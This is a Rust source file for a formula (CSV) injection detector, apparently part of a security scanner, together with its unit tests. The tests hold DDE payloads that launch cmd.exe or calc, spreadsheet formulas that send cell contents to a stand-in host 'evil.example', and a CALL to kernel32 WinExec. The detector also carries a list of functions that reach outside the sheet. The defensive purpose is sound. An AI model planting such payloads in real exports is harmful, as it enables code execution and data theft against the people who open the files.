//! Formula (CSV) injection: values that a spreadsheet opening an export runs as a formula.
//! Functions export pipelines (DynamoDB to CSV, reports mailed as attachments) write what
//! callers sent; a cell that starts with `=`, `+`, `-` or `@` is a formula to Excel, LibreOffice
//! and Google Sheets.
//!
//! Two shapes, wherever a cell can start (the value's start, or after a CSV separator, a tab,
//! a quote or a line break): a dynamic data exchange call that runs a program
//! (`=cmd|' /C calc'!A0`, anywhere in the value), and a function that fetches, links or
//! calls out (`=HYPERLINK(`, `=IMPORTXML(`, `=WEBSERVICE(`, `=CALL(` …). Ordinary formulas
//! (`=SUM(A1:A3)`) and signed numbers (`-5`, `+44 20 …`) are data.

use super::subject::{class, Hit, Needs, Subject, Tables};

/// Spreadsheet functions that reach outside the sheet (links, web requests, imports, DLL
/// calls), each with its opening parenthesis.
const REACHING: &[&str] = &[
    "hyperlink(",
    "importxml(",
    "importdata(",
    "importhtml(",
    "importfeed(",
    "importrange(",
    "image(",
    "webservice(",
    "filterxml(",
    "call(",
    "register(",
    "register.id(",
    "exec(",
    "rtd(",
    "dde(",
    "ddeauto(",
];

/// What `detect` needs to fire (see [`Needs`]): a pipe (DDE) or a reaching function's name.
pub(crate) fn needs() -> Needs {
    Needs::classes(class::PIPE).or_words(REACHING)
}

/// Finds formula injection in one value.
pub(crate) fn detect(s: &Subject<'_>, _t: &Tables) -> Option<Hit> {
    let b = s.bytes();
    if s.has(class::PIPE) {
        if let Some(h) = dde(b) {
            return Some(h);
        }
    }
    for start in cell_starts(b) {
        let Some(&lead) = b.get(start) else { break };
        if !matches!(lead, b'=' | b'+' | b'-' | b'@') {
            continue;
        }
        let mut i = start + 1;
        // `=+HYPERLINK(`, `=@IMPORTXML(`, `= HYPERLINK(`.
        while b
            .get(i)
            .is_some_and(|c| matches!(c, b'=' | b'+' | b'-' | b'@' | b' '))
        {
            i += 1;
        }
        if let Some(f) = REACHING.iter().find(|f| b[i..].starts_with(f.as_bytes())) {
            return Some(Hit::new("formula.reaching_function", start, i + f.len()));
        }
    }
    None
}

/// Where a cell may start in `b`: its first non-blank byte, and the byte after each separator
/// (`,` `;` tab, quote, line break) past blanks.
fn cell_starts(b: &[u8]) -> impl Iterator<Item = usize> + '_ {
    let skip = |mut i: usize| {
        while b.get(i).is_some_and(|c| matches!(c, b' ' | b'"' | b'\'')) {
            i += 1;
        }
        i
    };
    std::iter::once(skip(0)).chain(
        b.iter()
            .enumerate()
            .filter(|(_, c)| matches!(c, b',' | b';' | b'\t' | b'\n' | b'\r' | b'"'))
            .map(move |(i, _)| skip(i + 1)),
    )
}

/// `cmd|' /C calc'!A0`, `msexcel|'\..\..\windows\system32\cmd'!''`: a program, `|`, a quoted
/// topic and `!` with an item, the DDE link a formula opens.
fn dde(b: &[u8]) -> Option<Hit> {
    for p in memchr::memchr_iter(b'|', b) {
        let program = b[..p]
            .iter()
            .rev()
            .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'.'))
            .count();
        if program == 0 {
            continue;
        }
        let start = p - program;
        // A formula opens the link: `=`, `+`, `-`, `@` (or an operator) before the program.
        let formula = b[..start]
            .iter()
            .rev()
            .find(|c| **c != b' ')
            .is_some_and(|c| matches!(c, b'=' | b'+' | b'-' | b'@' | b'*' | b'(' | b'&'));
        let rest = &b[p + 1..];
        let quoted = rest.iter().position(|c| *c != b' ').map(|q| q + 1);
        let Some(open) = quoted.filter(|&q| rest.get(q - 1) == Some(&b'\'')) else {
            continue;
        };
        let Some(close) = memchr::memchr(b'\'', &rest[open..]) else {
            continue;
        };
        if formula && rest.get(open + close + 1) == Some(&b'!') {
            return Some(Hit::new("formula.dde", start, p + 1 + open + close + 2));
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::inspect::subject::test_subject;

    fn rule(text: &str) -> Option<&'static str> {
        test_subject(text, 1, detect).map(|h| h.rule)
    }

    #[test]
    fn dde_links_and_reaching_functions() {
        for dde in [
            "=cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "+cmd|' /C notepad'!'B1'",
            "-2+3+cmd|' /C calc'!A0",
            "name,=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
        ] {
            assert_eq!(rule(dde), Some("formula.dde"), "{dde}");
        }
        for f in [
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
            "=IMPORTXML(CONCAT(\"http://evil.example/?v=\",A1),\"//a\")",
            "alice,\"=WEBSERVICE(\"\"http://evil.example\"\")\"",
            " =+image(\"http://evil.example/p.png\")",
            "@CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)",
        ] {
            assert_eq!(rule(f), Some("formula.reaching_function"), "{f}");
        }
    }

    #[test]
    fn ordinary_formulas_numbers_and_pipes_pass() {
        for plain in [
            "=SUM(A1:A3)",
            "-5",
            "+44 20 7946 0958",
            "a | b | c",
            "grep 'x' file | wc -l",
            "Use the hyperlink() helper in templates",
            "see image(s) attached",
            "| col | 'x'! |",
            "it's | 'fine'!",
        ] {
            assert_eq!(rule(plain), None, "{plain}");
        }
    }
}
